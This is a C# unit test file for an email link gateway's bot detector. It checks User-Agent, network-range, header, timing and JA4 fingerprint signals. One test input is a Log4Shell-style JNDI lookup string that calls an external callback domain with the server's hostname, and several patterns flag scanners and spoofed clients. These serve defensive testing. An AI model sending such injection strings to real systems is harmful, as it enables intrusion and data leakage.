using LinkGateway.Links;
using LinkGateway.Scoring;
using LinkGateway.Signatures;
using LinkGateway.TestSupport;

namespace LinkGateway.Signals;

public class StatelessDetectorTests
{
    private static readonly StatelessDetector _detector = new(SignatureLoader.LoadDirectory(RepoFiles.Signatures));
    private static readonly VerdictScorer _scorer = new(ScoringPolicy.Default);

    [Fact]
    public void BrowserWithEveryHeader_FiresNothing()
    {
        var signals = _detector.Detect(Requests.Browser());

        Assert.True(signals.IsEmpty, signals.ToString());
    }

    [Theory]
    [InlineData("curl/8.5.0", "ua.library")]
    [InlineData("python-requests/2.32.3", "ua.library")]
    [InlineData("Go-http-client/1.1", "ua.library")]
    [InlineData("okhttp/4.12.0", "ua.library")]
    [InlineData("Java/17.0.2", "ua.library")]
    [InlineData("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36", "ua.headless")]
    [InlineData("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/100.0.4896.127 Safari/537.36 Edg/100.0.1185.50 BingPreview/1.0b", "ua.scanner")]
    [InlineData("Barracuda Sentinel (EE)", "ua.scanner")]
    [InlineData("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "ua.scanner")]
    [InlineData("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "ua.crawler")]
    [InlineData("${jndi:ldap://${hostName}.useragent.example.oast.live}", "ua.crawler")]
    [InlineData("gobuster/3.1.0", "ua.crawler")]
    [InlineData("Blackbox Exporter/0.24.0", "ua.crawler")]
    [InlineData("DynatraceSynthetic/1.179", "ua.crawler")]
    [InlineData("GitHubCopilotChat/0.8.0", "ua.crawler")]
    [InlineData("meta-externalagent/1.1", "ua.crawler")]
    [InlineData("AHC/2.1", "ua.library")]
    [InlineData("ipad", "ua.crawler")] // a bare word with no model is still a bot's
    [InlineData("", "ua.missing")]
    [InlineData(null, "ua.missing")]
    public void ClientSignature_FiresItsReason_AndScoresBot(string? userAgent, string expected)
    {
        var signals = _detector.Detect(Requests.Bare(userAgent));

        Assert.Contains(expected, signals.ToString().Split(','));
        Assert.Equal(VerdictKind.Bot, _scorer.Score(signals).Kind);
    }

    [Fact]
    public void Head_FiresMethodHead()
    {
        var head = Requests.Browser() with { Method = "HEAD" };

        var verdict = _scorer.Score(_detector.Detect(head));

        Assert.Equal("method.head", verdict.Reasons);
        Assert.Equal(VerdictKind.Suspect, verdict.Kind);
    }

    [Theory]
    [InlineData("40.107.3.10", LinkKind.Click, "net.vendor")]
    [InlineData("2a01:111:f400::1", LinkKind.Click, "net.vendor")]
    [InlineData("::ffff:40.107.3.10", LinkKind.Unsubscribe, "net.vendor")]
    [InlineData("40.107.3.10", LinkKind.Open, "")] // scope "clicks": its image proxy carries people's opens
    [InlineData("88.198.1.2", LinkKind.Open, "net.datacenter")]
    [InlineData("198.51.100.20", LinkKind.Click, "")]
    // The shipped first-party lists (config/signatures/networks), with the more telling category winning an overlap.
    [InlineData("3.2.4.10", LinkKind.Click, "net.datacenter")] // Amazon
    [InlineData("2001:4898::1", LinkKind.Click, "net.datacenter")] // Microsoft Azure
    [InlineData("66.249.66.1", LinkKind.Click, "net.crawler")] // Googlebot, inside Google's own ranges
    [InlineData("52.59.46.112", LinkKind.Open, "net.monitor")] // a Pingdom probe, inside Amazon's
    [InlineData("163.114.128.1", LinkKind.Click, "net.previewer")] // Meta
    [InlineData("104.28.29.54", LinkKind.Click, "")] // iCloud Private Relay, inside Cloudflare's
    [InlineData("2a02:26f7:b0c2:4000::1", LinkKind.Click, "")] // iCloud Private Relay, inside Akamai's
    [InlineData("37.221.112.210", LinkKind.Click, "")] // a Proton VPN exit
    public void Network_FiresByCategoryAndScope(string address, LinkKind kind, string expected)
    {
        var signals = _detector.Detect(Requests.Browser(kind, address: address));

        Assert.Equal(expected, signals.ToString());
    }

    [Theory]
    // A crawler's User-Agent from its operator's published fleet: certain automation.
    [InlineData("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "66.249.66.1", "ua.crawler,net.crawler")]
    // A browser's User-Agent from the same fleet is the operator's renderer or agent, not a person.
    [InlineData(Requests.Chrome, "66.249.66.1", "net.crawler")]
    [InlineData(Requests.Chrome, "52.59.46.112", "net.monitor")]
    [InlineData(Requests.Chrome, "163.114.128.1", "net.previewer")]
    public void AutomationNetworks_AreBot_EvenWithPerfectBrowserHeaders(string userAgent, string address, string expected)
    {
        var verdict = _scorer.Score(_detector.Detect(Requests.Browser(userAgent: userAgent, address: address)));

        Assert.Equal(expected, verdict.Reasons);
        Assert.Equal(VerdictKind.Bot, verdict.Kind);
    }

    [Fact]
    public void CloudAddress_WithPerfectBrowserHeaders_IsOnlyWeakEvidence()
    {
        var verdict = _scorer.Score(_detector.Detect(Requests.Browser(address: "3.2.4.10")));

        Assert.Equal("net.datacenter", verdict.Reasons);
        Assert.Equal(VerdictKind.Human, verdict.Kind);
    }

    [Fact]
    public void VendorNetwork_WithPerfectBrowserHeaders_IsBot()
    {
        var verdict = _scorer.Score(_detector.Detect(Requests.Browser(address: "40.107.3.10")));

        Assert.Equal(VerdictKind.Bot, verdict.Kind);
    }

    [Theory]
    // Gmail's proxy fetches from Google's published ranges: there the claim is corroborated.
    [InlineData("Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)", "66.102.8.1", "net.image-proxy", VerdictKind.Human)]
    // The same User-Agent from elsewhere is only a claim: with a bare request's headers it stays suspect, never a bot.
    [InlineData("Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)", "198.51.100.21", "open.proxy-human", VerdictKind.Suspect)]
    [InlineData("YahooMailProxy; https://help.yahoo.com/kb/yahoo-mail-proxy-SLN28749.html", "198.51.100.21", "open.proxy-human", VerdictKind.Suspect)]
    [InlineData("Mozilla/5.0", "66.102.8.1", "open.machine", VerdictKind.Bot)]
    public void OpenPixel_TellsProxiedPeopleFromMachines(string userAgent, string address, string reason, VerdictKind expected)
    {
        // Image proxies send no browser headers: the bare shape alone must not make them bots.
        var verdict = _scorer.Score(_detector.Detect(Requests.Bare(userAgent, LinkKind.Open, address: address)));

        Assert.Contains(reason, verdict.Reasons.Split(','));
        Assert.Equal(expected, verdict.Kind);
    }

    [Theory]
    [InlineData("Mozilla/5.0 (Linux; Android 7.0; M bot 54) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.96 Mobile Safari/537.36")]
    [InlineData("Mozilla/5.0 (Linux; Android 8.1.0; XBot Junior) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.101 Mobile Safari/537.36")]
    [InlineData("Mozilla/5.0 (Linux; Android 13; Spider 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36")]
    [InlineData("iPhone14ProMax")]
    [InlineData("Amazon;AFTMM;756a522d9f1648b89e76e80be654456a;;tpapi;3.202.356")]
    [InlineData("Overcast/3.0 (+http://overcast.fm/; iOS podcast app)")]
    [InlineData("Firefox 3.0.5")]
    [InlineData("Viber")]
    [InlineData("WhatsApp/2.17.427 Android/6.0 Device/HTC-HTC_Desire_816")]
    public void PersonSoftwareWithACrawlersShape_FiresNothing(string userAgent)
    {
        var signals = _detector.Detect(Requests.Browser(LinkKind.Click, userAgent));

        Assert.True(signals.IsEmpty, signals.ToString());
    }

    [Theory]
    [InlineData("The Bat! 4.0.0.22", LinkKind.Click)]
    [InlineData("The Bat! Voyager 4.0.18.4", LinkKind.Open)]
    [InlineData("Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.6326; Pro)", LinkKind.Open)]
    public void MailClient_IsAPersonOnClicksAndOpens(string userAgent, LinkKind kind)
    {
        var verdict = _scorer.Score(_detector.Detect(Requests.Browser(kind, userAgent)));

        Assert.Contains("client.mail-app", verdict.Reasons.Split(','));
        Assert.Equal(VerdictKind.Human, verdict.Kind);
    }

    [Theory]
    [InlineData("Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.6326; Pro)")]
    [InlineData("Outlook-iOS/665.29827.prod.iphone (2.63.0)")]
    public void MailClientOpen_IsAPerson(string userAgent)
    {
        // Mail clients load images with their own HTTP stack: Accept */*, but the reader's language.
        var open = Requests.Bare(userAgent, LinkKind.Open) with { HasAcceptLanguage = true };

        var verdict = _scorer.Score(_detector.Detect(open));

        Assert.Contains("client.mail-app", verdict.Reasons.Split(','));
        Assert.Equal(VerdictKind.Human, verdict.Kind);
    }

    [Fact]
    public void MailAppWebview_IsAPerson()
    {
        // An Android in-app browser: Chromium's headers, and the app's package in X-Requested-With.
        var webview = Requests.Browser() with
        {
            UserAgent = "Mozilla/5.0 (Linux; Android 14; Pixel 8; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.0.0 Mobile Safari/537.36",
            Accept = "*/*", RequestedWith = "com.microsoft.office.outlook",
        };

        var verdict = _scorer.Score(_detector.Detect(webview));

        Assert.Contains("client.mail-app", verdict.Reasons.Split(','));
        Assert.Equal(VerdictKind.Human, verdict.Kind);
    }

    [Theory]
    [InlineData("curl/8.5.0", "198.51.100.21", VerdictKind.Bot)] // ua.library is strong: the claim counts for nothing
    [InlineData("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/100.0.4896.127 Safari/537.36 Edg/100.0.1185.50 BingPreview/1.0b", "198.51.100.21", VerdictKind.Bot)]
    [InlineData(Requests.Chrome, "40.107.3.10", VerdictKind.Bot)] // Exchange Online Protection: net.vendor
    public void ClaimedMailApp_NeverCancelsStrongEvidence(string userAgent, string address, VerdictKind expected)
    {
        var request = Requests.Bare(userAgent, address: address) with { RequestedWith = "com.microsoft.office.outlook" };
        var withoutClaim = _scorer.Score(_detector.Detect(request with { RequestedWith = null }));

        var verdict = _scorer.Score(_detector.Detect(request));

        Assert.Contains("client.mail-app", verdict.Reasons.Split(','));
        Assert.Equal((withoutClaim.Score, expected), (verdict.Score, verdict.Kind));
    }

    [Fact]
    public void ClaimedMailApp_OnALazyScript_StaysSuspect()
    {
        // A script with Chrome's User-Agent and nothing else over HTTPS: weak evidence, 58 — suspect. The claim may not be
        // what takes it below suspect (on a confirm link with Shield: auto that is the difference between page and origin).
        var script = Requests.Bare(Requests.Chrome) with { Accept = "text/html", RequestedWith = "com.microsoft.office.outlook" };

        var verdict = _scorer.Score(_detector.Detect(script));

        Assert.Equal((50, VerdictKind.Suspect), (verdict.Score, verdict.Kind));
    }

    [Theory]
    [InlineData(true, true, "")]
    [InlineData(true, false, "hdr.no-sec-fetch")]
    [InlineData(false, false, "")] // plain HTTP: browsers send no Sec-Fetch-* there
    public void SecFetch_CountsOnlyWhereBrowsersSendIt(bool secure, bool hasSecFetch, string expected)
    {
        var request = Requests.Browser() with { HasSecFetch = hasSecFetch, IsSecureContext = secure };

        Assert.Equal(expected, _detector.Detect(request).ToString());
    }

    [Theory]
    [InlineData(5, "timing.fast")]
    [InlineData(19, "timing.fast")]
    [InlineData(20, "")]
    [InlineData(3600, "")]
    [InlineData(-30, "")] // a send time in the future is a clock or a forgery, not evidence
    public void TimeSinceSend_FiresBelowTheThreshold(int secondsSinceSend, string expected)
    {
        var request = Requests.Browser() with { Identity = new LinkIdentity("m", "r", "l", Requests.Now.AddSeconds(-secondsSinceSend)) };

        Assert.Equal(expected, _detector.Detect(request).ToString());
    }

    [Theory]
    [InlineData(Requests.Chrome, "t13d1517h2_8daaf6152771_cb7bf5808d99", "")] // Debian's Chromium 156
    [InlineData(Requests.Chrome, "t13d1516h2_8daaf6152771_d8a2da3f94cd", "")] // Chrome 143: another extension hash, same ciphers
    [InlineData(Requests.Chrome, "t13d3112h2_e8f1e7e78f70_b26ce05bbdd6", "tls.ja4,tls.mismatch")] // curl claiming Chrome
    [InlineData(Requests.Chrome, "t13d1715h2_5b57614c22b0_3d5424432f57", "tls.mismatch")] // an unknown stack claiming Chrome
    [InlineData("Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0", "t13d1715h2_5b57614c22b0_3d5424432f57", "")] // only Chromium is checked
    [InlineData("curl/8.5.0", "t13i3111h1_e8f1e7e78f70_b26ce05bbdd6", "ua.library,tls.ja4")] // no SNI, HTTP/1.1: parts b and c still match
    public void Ja4_NamesToolsAndChromiumImpostors(string userAgent, string ja4, string expected)
    {
        var request = Requests.Browser(userAgent: userAgent) with { Ja4 = ja4 };

        Assert.Equal(expected, _detector.Detect(request).ToString());
    }
}
